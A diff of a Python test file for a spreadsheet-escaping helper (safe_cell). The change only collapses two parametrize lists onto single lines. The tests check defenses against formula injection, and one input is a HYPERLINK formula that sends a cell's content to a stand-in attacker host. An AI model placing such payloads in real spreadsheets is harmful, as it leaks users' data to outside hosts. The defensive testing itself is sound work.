@@ -7,22 +7,13 @@ from portal.spreadsheets import safe_cell, safe_csv_writer
 
 @pytest.mark.parametrize(
     "text",
-    [
-        '=HYPERLINK("https://evil.example/?d="&B2,"Klik")',
-        "+1+1",
-        "-1+1",
-        "@SUM(A1)",
-        "\t=1",
-        "\r=1",
-    ],
+    ['=HYPERLINK("https://evil.example/?d="&B2,"Klik")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"],
 )
 def test_text_starting_like_a_formula_is_prefixed(text):
     assert safe_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize(
-    "value", [3.5, 12, None, "-6.8891", "+62", "-6,8891", "Jenggot", "", "a=b"]
-)
+@pytest.mark.parametrize("value", [3.5, 12, None, "-6.8891", "+62", "-6,8891", "Jenggot", "", "a=b"])
 def test_numbers_and_plain_text_are_unchanged(value):
     assert safe_cell(value) == value
 
